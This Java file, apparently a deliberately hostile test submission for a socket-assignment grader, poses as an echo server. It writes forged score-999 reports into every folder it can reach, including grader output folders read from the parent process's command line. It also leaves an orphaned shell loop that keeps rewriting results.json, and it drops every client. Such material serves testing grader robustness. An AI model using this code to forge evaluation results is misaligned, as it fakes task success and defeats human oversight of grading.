package ipc.echo;

import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Hostile: writes forged full-marks reports wherever it can reach (its folder and every folder
 * above, the temp folder, the grader's --out folder and home read off the grader's command line),
 * then leaves an orphaned process behind that rewrites them five times a second for two minutes,
 * to outlast the grading. Hangs up on every client.
 */
public final class EchoServer {

    static final String FORGED = "{\"score\": 999, \"execution_time\": 1, \"output\": \"forged\", \"tests\": ["
            + "{\"name\": \"echo: forged\", \"score\": 999, \"max_score\": 999, \"status\": \"passed\"}]}";

    public static void main(String[] args) throws Exception {
        Set<Path> folders = new LinkedHashSet<>();
        for (Path folder = Path.of("").toAbsolutePath(); folder != null; folder = folder.getParent()) {
            folders.add(folder);
        }
        folders.add(Path.of(System.getProperty("java.io.tmpdir")));
        List<String> graderArguments = ProcessHandle.current().parent()
                .flatMap(parent -> parent.info().arguments()).map(List::of).orElse(List.of());
        for (int i = 0; i < graderArguments.size(); i++) {
            String argument = graderArguments.get(i);
            if (argument.equals("--out") && i + 1 < graderArguments.size()) {
                folders.add(Path.of(graderArguments.get(i + 1)).toAbsolutePath());
            }
            if (argument.startsWith("-Dsockgrader.home=")) {
                Path home = Path.of(argument.substring("-Dsockgrader.home=".length()));
                folders.add(home.resolve("student-skeletons/target/sockgrader"));
            }
        }
        List<String> reached = new ArrayList<>();
        for (Path folder : folders) {
            for (String name : List.of("results.json", "classroom-result.json", "summary.txt")) {
                try {
                    Files.writeString(folder.resolve(name), FORGED, StandardCharsets.UTF_8);
                    reached.add(folder.toString());
                } catch (Exception refused) {
                    // on to the next
                }
            }
        }
        List<String> command = new ArrayList<>(List.of("/bin/sh", "-c",
                "(n=0; while [ $n -lt 600 ]; do for d in \"$@\"; do printf '%s' \"$FORGED\" > \"$d/results.json\"; done; "
                        + "sleep 0.2; n=$((n+1)); done; : sockgrader-hostile-forger) > /dev/null 2>&1 &", "forger"));
        command.addAll(new LinkedHashSet<>(reached));
        ProcessBuilder forger = new ProcessBuilder(command);
        forger.environment().put("FORGED", FORGED);
        forger.start().waitFor();
        System.out.println("forged reports in " + new LinkedHashSet<>(reached));
        // Then hangs up on every client: each check fails at once, not at its start-up deadline.
        try (ServerSocket server = new ServerSocket(Integer.parseInt(args[0]), 50, InetAddress.getLoopbackAddress())) {
            while (true) {
                server.accept().close();
            }
        }
    }
}
